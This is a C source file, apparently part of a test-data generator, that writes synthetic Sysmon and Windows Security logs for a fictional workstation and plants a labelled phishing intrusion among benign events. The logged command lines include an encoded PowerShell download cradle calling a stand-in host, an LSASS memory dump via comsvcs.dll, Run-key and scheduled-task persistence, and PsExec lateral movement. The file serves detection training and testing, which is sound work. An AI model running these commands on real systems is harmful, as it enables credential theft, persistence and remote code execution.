/* ws07: Sysmon as NXLog ships it (flat JSON), and the Security log as evtx_dump prints it. */
#include "tests/maker/case.h"

#define HOST "WS07." DOMAIN
#define USER "BRACKWATER\\m.okafor"
#define SYSTEM_USER "NT AUTHORITY\\SYSTEM"
#define S32 "C:\\Windows\\System32\\"
/* IEX (New-Object Net.WebClient).DownloadString('https://cdn.metrics-sync.invalid/a') in base64 of UTF-16LE. */
#define ENCODED \
	"powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA" \
	"ZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAGQAbgAuAG0AZQB0AHIA" \
	"aQBjAHMALQBzAHkAbgBjAC4AaQBuAHYAYQBsAGkAZAAvAGEAJwApAA=="
#define OFFICE "C:\\Program Files\\Microsoft Office\\root\\Office16\\"

struct buf *
sysmon_open(struct company *c, int64_t whole, const char *host, int id, const char *task)
{
	int64_t at = whole % SECOND ? whole : whole + rng_below(&c->r, SECOND);
	struct buf *b = log_add(&c->log[SYSMON], at);
	static const char seq[2] = {LOG_SEQ};

	put_open(b, NULL);
	put_key(b, "@timestamp");
	buf_byte(b, '"');
	when_iso(b, at, 3, "Z\"");
	put_str(b, "Hostname", host);
	put_num(b, "EventID", id);
	put_str(b, "Channel", "Microsoft-Windows-Sysmon/Operational");
	put_str(b, "SourceName", "Microsoft-Windows-Sysmon");
	put_str(b, "ProviderGuid", "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}");
	put_str(b, "EventType", "INFO");
	put_str(b, "Severity", "INFO");
	put_raw(b, "RecordNumber", seq);
	put_num(b, "ExecutionProcessID", 2748);
	put_num(b, "ThreadID", 3904);
	put_str(b, "AccountName", "SYSTEM");
	put_str(b, "Category", task);
	put_str(b, "RuleName", "-");
	put_key(b, "UtcTime");
	buf_byte(b, '"');
	when_words(b, at);
	buf_byte(b, '"');
	return b;
}

static void
done(struct company *c, struct buf *b)
{
	put_close(b);
	log_end(&c->log[SYSMON]);
}

/* The middle parts of a process GUID hold its start, so the same process at the same time has the same GUID. */
static void
guid(struct buf *b, const char *key, int pid, int64_t at)
{
	put_strf(b, key, "{747F3D96-%04X-%04X-%04X-000000001200}", (unsigned)(pid * 40503 & 0xffff), (unsigned)(at / SECOND
		& 0xffff),
		(unsigned)(pid & 0xffff));
}

/* A hash that belongs to the image: the same file has the same one each time. */
static void
hashes(struct buf *b, const char *image)
{
	struct rng r = {7};

	for (const char *p = image; *p; p++)
		r.s = r.s * 1099511628211u + (unsigned char)*p;
	put_strf(b, "Hashes", "MD5=%s,SHA256=%s,IMPHASH=%s", hex_of(&r, 32, true), hex_of(&r, 64, true), hex_of(&r, 32, true));
}

static void
who(struct buf *b, const struct process *p)
{
	guid(b, "ProcessGuid", p->pid, p->start);
	put_num(b, "ProcessId", p->pid);
	put_str(b, "Image", p->image);
	put_str(b, "User", p->user);
}

void
sysmon_start(struct company *c, int64_t at, const char *host, const struct process *p)
{
	struct buf *b = sysmon_open(c, at, host, 1, "Process Create (rule: ProcessCreate)");
	bool person = strcmp(p->user, SYSTEM_USER) != 0;

	who(b, p);
	put_str(b, "FileVersion", "10.0.19041.3636 (WinBuild.160101.0800)");
	put_str(b, "Company", "Microsoft Corporation");
	put_str(b, "OriginalFileName", p->original);
	put_str(b, "CommandLine", p->line);
	put_str(b, "CurrentDirectory", person ? "C:\\Users\\m.okafor\\" : S32);
	put_str(b, "LogonGuid", person ? "{747F3D96-6A11-67D0-4B7A-0B0000000000}" : "{747F3D96-5F02-67D0-E703-000000000000}");
	put_str(b, "LogonId", person ? "0xb7a4b" : "0x3e7");
	put_num(b, "TerminalSessionId", person);
	put_str(b, "IntegrityLevel", person ? "Medium" : "System");
	hashes(b, p->image);
	guid(b, "ParentProcessGuid", p->parent_pid, p->parent_start);
	put_num(b, "ParentProcessId", p->parent_pid);
	put_str(b, "ParentImage", p->parent);
	put_str(b, "ParentCommandLine", p->parent_line);
	put_str(b, "ParentUser", p->user);
	done(c, b);
}

static const struct process usual[] = {
	{S32 "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", S32 "services.exe",
		"C:\\Windows\\system32\\services.exe",
		SYSTEM_USER, "svchost.exe", 0, 688, 0, 0},
	{S32 "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k wsappx -p -s AppXSvc", S32 "services.exe",
		"C:\\Windows\\system32\\services.exe",
		SYSTEM_USER, "svchost.exe", 0, 688, 0, 0},
	{S32 "backgroundTaskHost.exe", "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" "
		"-ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca",
		S32 "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", USER, "backgroundTaskHost.exe", 0,
		892, 0, 0},
	{S32 "RuntimeBroker.exe", S32 "RuntimeBroker.exe -Embedding", S32 "svchost.exe",
		"C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", USER,
		"RuntimeBroker.exe", 0, 892, 0, 0},
	{S32 "SearchProtocolHost.exe", "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" "
		"Global\\UsGthrFltPipeMssGthrPipe14_", S32 "SearchIndexer.exe",
		"C:\\Windows\\system32\\SearchIndexer.exe /Embedding", SYSTEM_USER, "SearchProtocolHost.exe", 0, 5120, 0, 0},
	{S32 "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", S32 "taskhostw.exe",
		"taskhostw.exe", SYSTEM_USER,
		"CONHOST.EXE", 0, 4460, 0, 0},
	{"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
		"\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer "
		"--lang=en-GB --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=118",
		"C:\\Program Files\\Google\\Chrome\\Application\\"
		"chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"", USER, "chrome.exe", 0, 7216,
		0, 0},
	{OFFICE "EXCEL.EXE", "\"" OFFICE "EXCEL.EXE\" \"C:\\Users\\m.okafor\\Documents\\payables-2026-03.xlsx\"",
		"C:\\Windows\\explorer.exe",
		"C:\\Windows\\Explorer.EXE", USER, "Excel.exe", 0, 4032, 0, 0},
	{OFFICE "OUTLOOK.EXE", "\"" OFFICE "OUTLOOK.EXE\"", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", USER,
		"Outlook.exe", 0, 4032, 0, 0},
	{S32 "taskhostw.exe", "taskhostw.exe Install $(Arg0)", S32 "svchost.exe",
		"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
		SYSTEM_USER, "taskhostw.exe", 0, 1344, 0, 0},
	{S32 "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", S32 "svchost.exe",
		"C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", SYSTEM_USER, "Wmiprvse.exe", 0, 892, 0, 0},
	{"C:\\Program Files\\Brackwater\\Inventory\\agent.exe", "\"C:\\Program Files\\Brackwater\\Inventory\\agent.exe\" "
		"--collect", S32 "services.exe",
		"C:\\Windows\\system32\\services.exe", SYSTEM_USER, "agent.exe", 0, 688, 0, 0},
};

static void
other(struct company *c, int64_t at)
{
	static const char *const dll[] = {"bcrypt.dll", "msvcp140.dll", "wintypes.dll", "propsys.dll", "dwmapi.dll",
		"cryptnet.dll"};
	static const char *const key[] = {
		"HKU\\S-1-5-21-2184503221-1184203399-3318203941-1123\\SOFTWARE\\Microsoft\\Office\\16.0\\Common\\LastTime",
		"HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\SequenceNumber",
		"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Diagnostics\\Perf"};
	struct rng *r = &c->r;
	struct process p = PICK(r, usual);
	struct buf *b;

	p.pid = 2000 + (int)rng_below(r, 3000) * 4;
	p.start = at;
	switch (rng_below(r, 5)) {
	case 0:
		b = sysmon_open(c, at, HOST, 3, "Network connection detected (rule: NetworkConnect)");
		who(b, &p);
		put_raw(b, "Protocol", "\"tcp\"");
		put_str(b, "SourceIp", WS07);
		put_num(b, "SourcePort", 49152 + rng_below(r, 16000));
		put_str(b, "DestinationIp", rng_chance(r, 400) ? DC01 : outside(r));
		put_num(b, "DestinationPort", 443);
		break;
	case 1:
		b = sysmon_open(c, at, HOST, 7, "Image loaded (rule: ImageLoad)");
		who(b, &p);
		put_strf(b, "ImageLoaded", S32 "%s", PICK(r, dll));
		hashes(b, "dll");
		put_str(b, "Signed", "true");
		put_str(b, "Signature", "Microsoft Windows");
		put_str(b, "SignatureStatus", "Valid");
		break;
	case 2:
		b = sysmon_open(c, at, HOST, 11, "File created (rule: FileCreate)");
		who(b, &p);
		put_strf(b, "TargetFilename", "C:\\Users\\m.okafor\\AppData\\Local\\Temp\\%s.tmp", hex_of(r, 8, true));
		break;
	case 3:
		b = sysmon_open(c, at, HOST, 13, "Registry value set (rule: RegistryEvent)");
		who(b, &p);
		put_str(b, "TargetObject", PICK(r, key));
		put_strf(b, "Details", "DWORD (0x%08x)", rng_below(r, 100000));
		break;
	default:
		b = sysmon_open(c, at, HOST, 22, "Dns query (rule: DnsQuery)");
		who(b, &p);
		put_str(b, "QueryName", rng_chance(r, 500) ? "dc01." DOMAIN : "telemetry.example.net");
		put_str(b, "QueryStatus", "0");
		put_strf(b, "QueryResults", "::ffff:%s;", outside(r));
	}
	done(c, b);
}

/* ---- Security of ws07 as evtx_dump prints it ---- */

static void
security(struct company *c, int64_t at, int id, const char *name, const char *value, const char *more, const char *more_value)
{
	struct buf *b = log_add(&c->log[WS_SECURITY], at);
	static const char seq[2] = {LOG_SEQ};

	put_open(b, NULL);
	put_raw(b, "Event",
		"{\"#attributes\":{\"xmlns\":\"http://schemas.microsoft.com/win/2004/08/events/event\"},\"System\":{\"Provider\":"
		"{\"#attributes\":{\"Name\":\"Microsoft-Windows-Security-Auditing\","
		"\"Guid\":\"54849625-5478-4994-A5BA-3E3B0328C30D\"}}");
	put_num(b, "EventID", id);
	put_raw(b, "Level", "0");
	put_raw(b, "TimeCreated", "{\"#attributes\":{\"SystemTime\":\"");
	when_iso(b, at, 6, "Z\"}}");
	put_raw(b, "EventRecordID", seq);
	put_raw(b, "Execution", "{\"#attributes\":{\"ProcessID\":712,\"ThreadID\":5216}}");
	put_str(b, "Channel", "Security");
	put_str(b, "Computer", HOST);
	put_close(b);
	put_open(b, "EventData");
	put_str(b, "SubjectUserName", "m.okafor");
	put_str(b, "SubjectDomainName", "BRACKWATER");
	put_str(b, "SubjectLogonId", "0xb7a4b");
	put_str(b, name, value);
	put_str(b, more, more_value);
	buf_lit(b, "}}}");
	log_end(&c->log[WS_SECURITY]);
}

void
noise_sysmon(struct company *c)
{
	struct rng *r = &c->r;

	for (unsigned i = 0; i < 1500 * c->scale; i++) {
		struct process p = usual[rng_below(r, 1 + rng_below(r, sizeof usual / sizeof *usual))];

		p.pid = 2000 + (int)rng_below(r, 3000) * 4;
		p.start = office_time(r);
		sysmon_start(c, p.start, HOST, &p);
	}
	for (unsigned i = 0; i < 2300 * c->scale; i++)
		other(c, office_time(r));
	for (unsigned i = 0; i < 150 * c->scale; i++)
		security(c, office_time(r), rng_chance(r, 600) ? 4634 : 5379, "TargetName",
		"MicrosoftAccount:target=SSO_POP_Device", "Type", "0");
}

/* ---- the intruders ---- */

static void
runs(struct company *c, int64_t at, const char *program, const char *original, const char *line, int pid,
	const char *technique, const char *what)
{
	struct process p = {program, line, S32 "WindowsPowerShell\\v1.0\\powershell.exe",
		ENCODED, USER, original, pid, 8816, 0, 0};

	sysmon_start(c, at, HOST, &p);
	log_plant(&c->log[SYSMON], technique, what);
}

static void
phish(struct company *c)
{
	struct process word = {OFFICE "WINWORD.EXE", "\"" OFFICE "WINWORD.EXE\" /n "
		"\"C:\\Users\\m.okafor\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
		"Content.Outlook\\Q7K2LX0P\\invoice-4471.docm\" /o \"\"", OFFICE "OUTLOOK.EXE", "\"" OFFICE "OUTLOOK.EXE\"",
		USER, "WinWord.exe", 8204, 6120, 0, 0};
	struct process shell = {S32 "WindowsPowerShell\\v1.0\\powershell.exe", ENCODED, word.image, word.line, USER,
		"PowerShell.EXE", 8816, 8204, 0, 0};
	struct buf *b;

	b = sysmon_open(c, AT(11, 8, 33, 51), HOST, 11, "File created (rule: FileCreate)");
	who(b, &(struct process){.image = OFFICE "OUTLOOK.EXE", .user = USER, .pid = 6120});
	put_str(b, "TargetFilename", "C:\\Users\\m.okafor\\Downloads\\invoice-4471\xe2\x80\xae" "fdp.docm");
	done(c, b);
	log_plant(&c->log[SYSMON], "T1566.001", "attachment; name with a right-to-left override");
	sysmon_start(c, AT(11, 8, 34, 12), HOST, &word);
	log_plant(&c->log[SYSMON], "T1204.002", "the attachment is opened");
	sysmon_start(c, AT(11, 8, 34, 20) + 412000, HOST, &shell);
	log_plant(&c->log[SYSMON], "T1059.001", "Word starts encoded PowerShell");
	b = sysmon_open(c, AT(11, 8, 36, 1), HOST, 22, "Dns query (rule: DnsQuery)");
	who(b, &shell);
	put_str(b, "QueryName", C2_NAME);
	put_str(b, "QueryStatus", "0");
	put_str(b, "QueryResults", "::ffff:" C2 ";");
	done(c, b);
	log_plant(&c->log[SYSMON], "T1071.001", "name of the C2 looked up");
	b = sysmon_open(c, AT(11, 8, 36, 2), HOST, 3, "Network connection detected (rule: NetworkConnect)");
	who(b, &shell);
	put_str(b, "Protocol", "tcp");
	put_str(b, "Initiated", "true");
	put_str(b, "SourceIp", WS07);
	put_num(b, "SourcePort", 50100);
	put_str(b, "DestinationIp", C2);
	put_num(b, "DestinationPort", 443);
	done(c, b);
	log_plant(&c->log[SYSMON], "T1071.001", "PowerShell calls the C2");
}

static void
look_around(struct company *c)
{
	runs(c, AT(11, 8, 38, 14), S32 "whoami.exe", "whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /all", 10404,
		"T1033", "whoami");
	runs(c, AT(11, 8, 38, 40), S32 "net.exe", "net.exe", "\"C:\\Windows\\system32\\net.exe\" group \"Domain Admins\" "
		"/domain", 10408, "T1069.002",
		"domain admins listed");
	runs(c, AT(11, 8, 39, 5), S32 "nltest.exe", "nltestrk.exe", "\"C:\\Windows\\system32\\nltest.exe\" /domain_trusts",
		10412, "T1482", "trusts listed");
	runs(c, AT(11, 8, 39, 33), S32 "ipconfig.exe", "ipconfig.exe", "\"C:\\Windows\\system32\\ipconfig.exe\" /all", 10416,
		"T1016", "network settings");
	runs(c, AT(11, 8, 41, 52), S32 "reg.exe", "reg.exe", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run "
		"/v OneSync /t REG_SZ /d "
		"C:\\Users\\m.okafor\\AppData\\Roaming\\onesync.exe /f", 10420, "T1547.001", "autostart entry");
	runs(c, AT(11, 8, 52, 9), S32 "rundll32.exe", "RUNDLL32.EXE", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, "
		"MiniDump 724 "
		"C:\\Users\\Public\\l.dmp full", 10436, "T1003.001", "LSASS dumped by comsvcs.dll");
	runs(c, AT(11, 8, 58, 30), S32 "schtasks.exe", "schtasks.exe",
		"schtasks /create /sc minute /mo 30 /tn \"OneSync Update\" /tr "
		"\"powershell -w hidden -f C:\\Users\\Public\\s.ps1\" /ru SYSTEM", 10428, "T1053.005", "scheduled task");
	runs(c, AT(11, 9, 39, 40), "C:\\Users\\Public\\PsExec64.exe", "psexec.c",
		"C:\\Users\\Public\\PsExec64.exe -accepteula \\\\dc01 -u "
		"BRACKWATER\\adm.tveit -s cmd.exe", 10432, "T1569.002", "PsExec to dc01");
}

static void
lsass(struct company *c)
{
	int64_t at = AT(11, 8, 52, 10) + 220000;
	struct buf *b = sysmon_open(c, at, HOST, 10, "Process accessed (rule: ProcessAccess)");

	guid(b, "SourceProcessGUID", 10436, 0);
	put_num(b, "SourceProcessId", 10436);
	put_str(b, "SourceImage", S32 "rundll32.exe");
	put_str(b, "TargetProcessGUID", "{747F3D96-5F02-67D0-0C00-000000001200}");
	put_num(b, "TargetProcessId", 724);
	put_str(b, "TargetImage", S32 "lsass.exe");
	put_str(b, "GrantedAccess", "0x1fffff");
	put_str(b, "CallTrace", S32 "ntdll.dll+9d4c4|" S32 "KERNELBASE.dll+2c13e|" S32 "dbgcore.DLL+6ceb|" S32
		"comsvcs.dll+2b1a8");
	put_str(b, "SourceUser", USER);
	put_str(b, "TargetUser", SYSTEM_USER);
	done(c, b);
	log_plant(&c->log[SYSMON], "T1003.001", "LSASS opened");
	b = sysmon_open(c, at + 900000, HOST, 11, "File created (rule: FileCreate)");
	who(b, &(struct process){.image = S32 "rundll32.exe", .user = USER, .pid = 10436});
	put_str(b, "TargetFilename", "C:\\Users\\Public\\l.dmp");
	done(c, b);
	log_plant(&c->log[SYSMON], "T1003.001", "dump of LSASS written");
}

void
story_windows(struct company *c)
{
	phish(c);
	look_around(c);
	lsass(c);
	security(c, AT(11, 8, 58, 30) + 50000, 4698, "TaskName", "\\OneSync Update", "TaskContent",
		"<Task><Exec><Command>powershell</Command><Arguments>-w hidden -f "
		"C:\\Users\\Public\\s.ps1</Arguments></Exec></Task>");
	log_plant(&c->log[WS_SECURITY], "T1053.005", "scheduled task");
	security(c, AT(11, 9, 39, 39), 4648, "TargetUserName", "adm.tveit", "TargetServerName", "dc01." DOMAIN);
	log_plant(&c->log[WS_SECURITY], "T1078.002", "logon with explicit credentials");
}
